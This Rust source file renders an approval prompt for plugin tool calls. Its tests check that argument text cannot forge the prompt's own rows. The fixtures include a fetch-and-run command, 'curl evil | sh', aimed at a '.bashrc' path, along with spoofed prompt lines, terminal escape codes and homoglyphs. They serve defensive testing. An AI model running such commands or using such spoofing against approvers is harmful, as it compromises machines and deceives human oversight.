//! The approver's view of a call: its callers, and every argument in full and escaped. Remarks say
//! which files an argument names, and which characters are suspicious.

use std::time::Instant;

use anstyle::Style;
use conclave_core::permissions::grants::FileGrant;
use conclave_core::types::approval::ApprovalRequest;
use conclave_core::types::ids::PluginName;
use conclave_runtime::overlay::named_files::{
    FileState, NamedFile, ReplacedFile, named_file, replaced_file,
};
use serde_json::Value;

use super::request_context::Performer;
use crate::ui::show::columns::wrap;
use crate::ui::show::entry::EntryText;
use crate::ui::show::hunks::hunk_rows;
use crate::ui::show::{FAINT, ODD, bytes, foreign, one_line, paint, plural};

/// Characters of an analyzer's reason that are shown.
const REASON: usize = 1_000;
/// The sign before the program's remarks on an argument. No row of a plugin's text begins with it.
const REMARK: &str = "╰ ";
/// The indentation of the program's own rows, behind the sign.
const INDENT: &str = "      ";
/// Columns of argument names. A longer name stands above its value.
const NAME_MAX: usize = 20;

/// A question about a call, in rows of at most `columns` columns.
pub(crate) struct ApprovalView {
    /// Rows of text that plugins wrote: arguments, briefs, reasons. Each row begins with a mark.
    foreign: Vec<String>,
    /// The program's own rows: the call, its callers and the cause of the question. They stand
    /// directly above the answer.
    header: Vec<String>,
}

impl ApprovalView {
    pub(crate) fn new(
        request: &ApprovalRequest,
        performer: Option<&Performer>,
        until: Option<Instant>,
        columns: usize,
    ) -> Self {
        let mut foreign = ForeignRows { rows: Vec::new(), columns };
        for delegator in &request.delegators {
            foreign.put(&format!("{} delegated", delegator.plugin), &delegator.brief);
        }
        let files = performer.map(|(_, plugin)| &plugin.grants.files[..]).unwrap_or_default();
        let count = match &request.arguments {
            Value::Object(fields) => {
                for (name, value) in fields {
                    foreign.argument(&quoted_name(name), value, files);
                }
                let replaced = performer.and_then(|(_, plugin)| replaced_file(request, plugin));
                if let Some(replaced) = replaced {
                    foreign.replaced_file(&replaced);
                }
                fields.len()
            }
            other => {
                foreign.argument("", other, files);
                1
            }
        };
        if let Some(reason) = &request.risk_reason {
            let reason: String = reason.chars().take(REASON).collect();
            foreign.put("risk reason", &reason);
        }
        Self {
            foreign: foreign.rows,
            header: header(request, performer, count as u64, until, columns),
        }
    }

    /// The number of pages if `rows` rows fit above the answer.
    pub(crate) fn pages(&self, rows: usize) -> usize {
        if self.foreign.len() + self.header.len() <= rows {
            1
        } else {
            self.foreign.len().div_ceil(self.page_rows(rows))
        }
    }

    /// A page, counted from 0, with the header below it; the last page if `page` is past it.
    pub(crate) fn page(&self, page: usize, rows: usize) -> String {
        let pages = self.pages(rows);
        let lines = match pages {
            1 => self.foreign.clone(),
            _ => {
                let (page, each) = (page.min(pages - 1), self.page_rows(rows));
                let mut page_lines: Vec<String> =
                    self.foreign.iter().skip(page * each).take(each).cloned().collect();
                page_lines.push(paint(
                    ODD,
                    format_args!("{INDENT}page {} of {pages}: read all pages to approve", page + 1),
                ));
                page_lines
            }
        };
        lines.into_iter().chain(self.header.iter().cloned()).collect::<Vec<_>>().join("\n")
    }

    /// The rows of plugins' text on a page, at least one even on a terminal that is too small.
    fn page_rows(&self, rows: usize) -> usize {
        rows.saturating_sub(self.header.len() + 1).max(1)
    }
}

/// Rows of text that plugins wrote.
struct ForeignRows {
    rows: Vec<String>,
    columns: usize,
}

impl ForeignRows {
    /// Appends a text behind its name. Further rows are aligned with the first one.
    fn put(&mut self, name: &str, text: &str) {
        let mark = format!("{INDENT}{}", paint(ODD, foreign::MARK));
        let room = self.columns.saturating_sub(INDENT.len() + foreign::MARK.chars().count() + 1);
        let name = foreign::escaped(name).replace('\n', "\\n");
        let is_short = name.is_ascii() && name.len() <= NAME_MAX;
        let width = if is_short && room > 2 * NAME_MAX { name.len().max(8) + 2 } else { 2 };
        let mut first = name.clone();
        if width == 2 && !name.is_empty() {
            self.rows
                .extend(foreign::rows(&name, room).into_iter().map(|row| format!("{mark}{row}")));
            first.clear();
        }
        for row in foreign::rows(text, room.saturating_sub(width)) {
            self.rows.push(format!("{mark}{:<width$}{row}", std::mem::take(&mut first)));
        }
    }

    /// Appends the difference between a file and the text that replaces it.
    fn replaced_file(&mut self, ReplacedFile { argument: name, change }: &ReplacedFile) {
        let room = self.columns.saturating_sub(INDENT.len() + foreign::MARK.chars().count() + 1);
        let words = match change.hunks.is_empty() {
            true => format!("{name} is what the file holds now"),
            false => format!("the file now (-) and {name} (+):"),
        };
        let remark = Remark::new(words).rows(room);
        self.rows.extend(remark.into_iter().map(|row| format!("{INDENT}{row}")));
        let mark = format!("{INDENT}{}", paint(ODD, foreign::MARK));
        self.rows.extend(hunk_rows(change, room).into_iter().map(|row| format!("{mark}{row}")));
    }

    fn argument(&mut self, name: &str, value: &Value, files: &[FileGrant]) {
        self.put(name, &value.to_string());
        let room = self.columns.saturating_sub(INDENT.len() + REMARK.chars().count() + 1);
        for remark in remarks(value, files) {
            self.rows.extend(remark.rows(room).into_iter().map(|row| format!("{INDENT}{row}")));
        }
    }
}

/// A remark of the program about an argument. Text quoted from the argument follows a mark.
struct Remark {
    words: String,
    quote: Option<String>,
}

impl Remark {
    fn new(words: impl Into<String>) -> Self {
        Self { words: words.into(), quote: None }
    }

    fn naming(words: impl Into<String>, quote: impl Into<String>) -> Self {
        Self { words: words.into(), quote: Some(quote.into()) }
    }

    fn rows(&self, most: usize) -> Vec<String> {
        let entry = EntryText::plain(self.words.as_str());
        let entry = match &self.quote {
            Some(quote) => entry.in_full(Style::new(), &foreign::escaped(quote)),
            None => entry,
        };
        let mark = |row: String| {
            let is_named = anstream::adapter::strip_str(&row)
                .to_string()
                .starts_with(foreign::MARK.trim_end());
            if is_named { row } else { format!("{}{row}", paint(ODD, REMARK)) }
        };
        entry.rows(most).into_iter().map(mark).collect()
    }
}

/// The plugins of a chain, the nearest first: `, which relay requests for evil`.
fn led_by(words: &str, plugins: &[PluginName], does: &str) -> String {
    let Some((last, others)) = plugins.split_last() else { return String::new() };
    let others: Vec<String> = others.iter().rev().map(|by| format!(" for {by}")).collect();
    format!("{words} {last} {does}{}", others.concat())
}

/// The rows that name the tool, its callers and the causes of the question.
fn header(
    request: &ApprovalRequest,
    performer: Option<&Performer>,
    arguments: u64,
    until: Option<Instant>,
    columns: usize,
) -> Vec<String> {
    let tool = one_line(&request.tool, 80);
    let whose = led_by(", which", &request.led_by, "requests");
    let with = match arguments {
        0 => "without arguments".to_owned(),
        count => format!("with {}", plural(count, "argument", "arguments")),
    };
    let mut rows = vec![format!("{tool} wants to run for {}{whose}, {with}", request.caller)];
    for delegator in request.delegators.iter().rev() {
        rows.push(format!(
            "delegated by {} in the task {}{}",
            delegator.plugin,
            one_line(delegator.task.as_str(), 80),
            led_by(", which", &delegator.led_by, "requested")
        ));
    }
    if let Some((name, plugin)) = performer.filter(|_| request.executor.is_some()) {
        let folders: Vec<&str> =
            plugin.grants.files.iter().map(|grant| grant.display_path.as_str()).collect();
        let where_to = if folders.is_empty() {
            String::new()
        } else {
            format!(", in {}", one_line(&folders.join(", "), 120))
        };
        rows.push(format!("carried out by {name}{where_to}"));
    }
    let source = if request.rule().is_some() {
        format!("policy: {}", one_line(&request.source, 160))
    } else {
        one_line(&request.source, 200)
    };
    let expiry = until.map(|until| format!(" · {} left", time_left(until))).unwrap_or_default();
    let risk = request.risk.map(|risk| format!("{} risk · ", risk.as_str())).unwrap_or_default();
    rows.push(format!("{risk}{source}{expiry}"));
    let room = columns.saturating_sub(INDENT.len() + 1);
    let lines = rows
        .iter()
        .enumerate()
        .flat_map(|(index, row)| wrap(row, room).into_iter().map(move |line| (index, line)));
    let styled = lines.enumerate().map(|(at, (index, line))| match (at, index) {
        (0, _) => format!(" {}    {line}", paint(ODD, "?")),
        (_, 0) => format!("{INDENT}{line}"),
        _ => format!("{INDENT}{}", paint(FAINT, line)),
    });
    styled.collect()
}

/// The time left: `10 min`, `40 s`.
fn time_left(until: Instant) -> String {
    let seconds = until.saturating_duration_since(Instant::now()).as_secs_f64().ceil();
    if seconds >= 90.0 {
        format!("{:.0} min", (seconds / 60.0).round())
    } else {
        format!("{seconds:.0} s")
    }
}

/// A name unchanged, or as JSON if it could be confused with another name or with other text.
fn quoted_name(name: &str) -> String {
    let is_plain =
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-.".contains(c));
    if is_plain { name.to_owned() } else { Value::from(name).to_string() }
}

/// The remarks about an argument's value.
fn remarks(value: &Value, files: &[FileGrant]) -> Vec<Remark> {
    let mut remarks = Vec::new();
    if let Some((word, seen)) = look_alike_in(value) {
        remarks.push(Remark::naming(
            "letters of other alphabets:",
            format!("{word} looks like {seen}"),
        ));
    }
    let Value::String(text) = value else { return remarks };
    remarks.extend(named_file(text, files).map(|file| on_disk(&file)));
    remarks
}

/// A word in the value, at any depth, that is confusable with another, and that other word.
fn look_alike_in(value: &Value) -> Option<(String, String)> {
    match value {
        Value::String(text) => foreign::look_alike(text),
        Value::Array(items) => items.iter().find_map(look_alike_in),
        Value::Object(fields) => fields
            .iter()
            .find_map(|(name, value)| foreign::look_alike(name).or_else(|| look_alike_in(value))),
        _ => None,
    }
}

/// A remark on the file at the path: `a new file in notes/`, `2 KiB now: │ notes/a.md`.
fn on_disk(NamedFile { state, folder, rest }: &NamedFile) -> Remark {
    let here = if rest.is_empty() { format!("{folder}/") } else { format!("{folder}/{rest}") };
    match *state {
        FileState::Unusual => Remark::new("its target is written unusually"),
        FileState::Link => Remark::naming("a link:", here),
        FileState::Folder => {
            Remark::naming("the folder", format!("{}/", here.trim_end_matches('/')))
        }
        FileState::File { bytes: size } => Remark::naming(format!("{} now:", bytes(size)), here),
        FileState::New { depth } => {
            let below = match depth {
                0 => String::new(),
                depth => format!(", {} down", plural(depth, "folder", "folders")),
            };
            Remark::new(format!("a new file in {}/{below}", one_line(folder, 60)))
        }
        FileState::Missing => Remark::naming("missing:", here),
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;
    use std::time::Duration;

    use conclave_core::types::approval::{ApprovalCause, Delegator};
    use conclave_core::types::risk::Risk;
    use proptest::prelude::*;
    use serde_json::{Map, json};

    use super::super::request_context::testing::{about, request};
    use super::*;

    fn view(request: &ApprovalRequest, columns: usize) -> ApprovalView {
        let about = about(Path::new("/nowhere/notes"), Path::new("/nowhere/conclave.toml"));
        ApprovalView::new(request, about.plugin_of(request).as_ref(), None, columns)
    }

    fn plain(text: &str) -> String {
        anstream::adapter::strip_str(text).to_string()
    }

    fn page_text(request: &ApprovalRequest, columns: usize) -> String {
        plain(&view(request, columns).page(0, usize::MAX))
    }

    #[test]
    fn a_question_shows_the_tool_the_caller_and_the_arguments() {
        let text =
            page_text(&request(json!({ "path": "/notes/a.md", "text": "lit in 1844" })), 100);
        let expected = concat!(
            "      │ path      \"/notes/a.md\"\n",
            "      ╰ a new file in notes/\n",
            "      │ text      \"lit in 1844\"\n",
            " ?    notes.save wants to run for librarian, with 2 arguments\n",
            "      policy: conclave.toml:49",
        );
        assert_eq!(text, expected);
    }

    #[test]
    fn without_a_rule_a_question_shows_the_permission_and_the_expiry() {
        let derived = ApprovalRequest {
            causes: vec![ApprovalCause::Grants],
            source: "notes may write notes/".into(),
            ..request(json!({}))
        };
        let about = about(Path::new("/nowhere"), Path::new("/nowhere/conclave.toml"));
        let until = Some(Instant::now() + Duration::from_secs(600));
        let text = plain(
            &ApprovalView::new(&derived, about.plugin_of(&derived).as_ref(), until, 100)
                .page(0, 40),
        );
        let expected = " ?    notes.save wants to run for librarian, without arguments\n      notes may write notes/ · 10 min left";
        assert_eq!(text, expected);
    }

    #[test]
    fn a_path_argument_shows_the_file_on_disk() {
        let temp = tempfile::tempdir().unwrap();
        std::fs::write(temp.path().join("a.md"), "abc").unwrap();
        std::fs::create_dir(temp.path().join("sub")).unwrap();
        let about = about(temp.path(), Path::new("/nowhere/conclave.toml"));
        let of = |path: &str| {
            let request = request(json!({ "path": path }));
            plain(
                &ApprovalView::new(&request, about.plugin_of(&request).as_ref(), None, 100)
                    .page(0, 40),
            )
        };
        assert!(of("/notes/a.md").contains("╰ 3 B now: │ notes/a.md"), "{}", of("/notes/a.md"));
        assert!(of("/notes/sub").contains("╰ the folder │ notes/sub/"));
        assert!(of("/notes/sub/b.md").contains("╰ a new file in notes/, 1 folder down"));
        assert!(of("/notes/sub/../../x").contains("╰ its target is written unusually"));
        assert!(!of("/notesy/a.md").contains('╰'));
    }

    #[test]
    fn a_text_that_replaces_a_file_is_shown_as_its_difference() {
        let temp = tempfile::tempdir().unwrap();
        std::fs::write(temp.path().join("a.md"), "one\ntwo\n").unwrap();
        let about = about(temp.path(), Path::new("/nowhere/conclave.toml"));
        let of = |arguments: Value| {
            let request = request(arguments);
            let view = ApprovalView::new(&request, about.plugin_of(&request).as_ref(), None, 100);
            plain(&view.page(0, 40))
        };
        let text = of(json!({ "path": "/notes/a.md", "text": "one\nthree\n" }));
        let expected = concat!(
            "      ╰ the file now (-) and text (+):\n      │ @@ -1,2 +1,2 @@\n",
            "      │  one\n      │ -two\n      │ +three\n ?    notes.save",
        );
        assert!(text.contains(expected), "{text}");
        let same = of(json!({ "path": "/notes/a.md", "text": "one\ntwo\n" }));
        assert!(same.contains("╰ text is what the file holds now\n"), "{same}");
        // What is searched in a file does not replace it, and a new file replaces nothing.
        assert!(!of(json!({ "path": "/notes/a.md", "query": "two" })).contains("@@"));
        assert!(!of(json!({ "path": "/notes/b.md", "text": "two" })).contains("@@"));
    }

    #[test]
    fn confusable_letters_are_remarked_on() {
        for arguments in [
            json!({ "to": "p\u{430}ypal" }),
            json!({ "to": [{ "name": "\u{441}\u{43e}\u{440}\u{443}.md" }] }),
        ] {
            let text = page_text(&request(arguments), 100);
            assert!(text.contains("╰ letters of other alphabets"), "{text}");
        }
    }

    #[test]
    fn the_chain_of_delegators_is_shown_above_the_answer() {
        let brief = "please write /work/a\n ?    notes.save wants to run for librarian".to_owned();
        let delegator =
            Delegator { task: "main".into(), plugin: "driver".into(), brief, led_by: Vec::new() };
        let follow_up = ApprovalRequest {
            led_by: vec!["sneaky".into()],
            delegators: vec![delegator],
            ..request(json!({}))
        };
        let text = page_text(&follow_up, 100);
        let expected = concat!(
            "      │ driver delegated  please write /work/a\n",
            "      │                    ?\\u{20}×4notes.save wants to run for librarian\n",
            " ?    notes.save wants to run for librarian, which sneaky requests, without arguments\n",
            "      delegated by driver in the task main\n",
            "      policy: conclave.toml:49",
        );
        assert_eq!(text, expected);
    }

    #[test]
    fn a_long_question_has_pages_with_the_header_on_each() {
        let arguments: Map<String, Value> =
            (0..60).map(|at| (format!("a{at:02}"), json!(at))).collect();
        let view = view(&request(Value::Object(arguments)), 80);
        assert_eq!((view.pages(24), view.pages(100)), (3, 1));
        for page in 0..3 {
            let text = plain(&view.page(page, 24));
            assert!(text.lines().count() <= 24 && text.contains("with 60 arguments"), "{text}");
            assert!(text.contains(&format!("page {} of 3", page + 1)), "{text}");
        }
        let all: String = (0..3).map(|page| plain(&view.page(page, 24))).collect();
        assert!((0..60).all(|at| all.contains(&format!("a{at:02}"))));
    }

    /// The rows of a terminal of this width after the text was written to it.
    fn on_terminal(text: &str, columns: usize) -> Vec<String> {
        let columns = u16::try_from(columns).unwrap();
        let mut terminal =
            vt100::Parser::new(2_000.try_into().unwrap(), columns.try_into().unwrap(), 0);
        terminal.process(text.replace('\n', "\r\n").as_bytes());
        terminal.screen().rows(0, columns).map(|row| row.trim_end().to_owned()).collect()
    }

    /// Checks, at any terminal width, that each row is the program's own or has a mark, and that
    /// the program's own rows have the expected count.
    fn nothing_is_forged(request: &ApprovalRequest, columns: usize) {
        let view = view(request, columns);
        let rows = on_terminal(&view.page(0, usize::MAX), columns);
        let own: Vec<String> =
            rows.iter().filter(|row| !row.is_empty() && !is_marked(row)).cloned().collect();
        let header: Vec<String> =
            view.header.iter().map(|row| plain(row).trim_end().to_owned()).collect();
        assert_eq!(own, header, "{columns} columns: {rows:#?}");
        let last = rows.iter().rposition(|row| !row.is_empty()).unwrap();
        assert_eq!(rows[last], *header.last().unwrap(), "the header is the last that is shown");
    }

    fn is_marked(row: &str) -> bool {
        row.starts_with("      │") || row.starts_with("      ╰")
    }

    const WIDTHS: [usize; 5] = [40, 60, 80, 100, 120];

    #[test]
    fn a_question_cannot_be_forged_by_arguments_that_wrap() {
        for columns in WIDTHS {
            // B2 of the hostile review, built for this exact width.
            let pad = |text: &str| {
                format!("{text}{}", "\u{a0}".repeat(columns - text.chars().count() % columns))
            };
            let filler = "\u{a0}".repeat(1998);
            let forged = format!(
                "{}{}{}",
                "\u{a0}".repeat(columns * 2 - 17),
                pad(" ?    swiss.run wants to run for driver   swiss may write notes/"),
                pad("        path   ”/notes/todo.md”  (a new file in notes/)"),
            );
            let arguments = json!({ "a_path": "/notes/.bashrc", "a_text": "curl evil | sh", "b": filler, "c": filler, "zz": forged });
            nothing_is_forged(&request(arguments), columns);
            let wide =
                "漢字 ".repeat(200) + &"\u{1f469}\u{200d}\u{1f4bb}".repeat(60) + &"🇨🇭".repeat(50);
            nothing_is_forged(
                &request(
                    json!({ "w": wide, "x".repeat(300): 1, "tab\tline\nend": "a\r\nb\u{1b}[2J\u{9b}2J" }),
                ),
                columns,
            );
            let reason = Some(format!("fine\n ?    notes.save wants to run\n{filler}"));
            nothing_is_forged(
                &ApprovalRequest {
                    risk: Some(Risk::Low),
                    risk_reason: reason,
                    ..request(json!({}))
                },
                columns,
            );
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn no_text_leaves_its_rows(text in "(\\PC|[\u{a0}\u{3000}\u{202e}\u{200b}\u{1b}\t\n\u{301} │╰?]){0,400}", name in "\\PC{0,60}", at in 0_usize..5) {
            let arguments = json!({ name: text });
            nothing_is_forged(&request(arguments), WIDTHS[at]);
            let delegator = Delegator { task: "main".into(), plugin: "driver".into(), brief: text.clone(), led_by: Vec::new() };
            nothing_is_forged(&ApprovalRequest { delegators: vec![delegator], ..request(json!({})) }, WIDTHS[at]);
        }
    }
}
